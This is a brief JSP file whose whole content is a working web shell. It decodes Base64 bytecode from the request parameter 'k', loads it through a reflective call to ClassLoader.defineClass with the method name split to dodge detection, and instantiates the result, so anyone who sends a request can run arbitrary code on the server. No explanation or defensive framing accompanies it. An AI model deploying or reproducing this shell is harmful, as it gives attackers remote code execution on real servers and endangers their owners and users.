<%
  java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class);
  m.setAccessible(true);
  byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));
  Class<?> c = (Class<?>) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
  c.newInstance();
%>
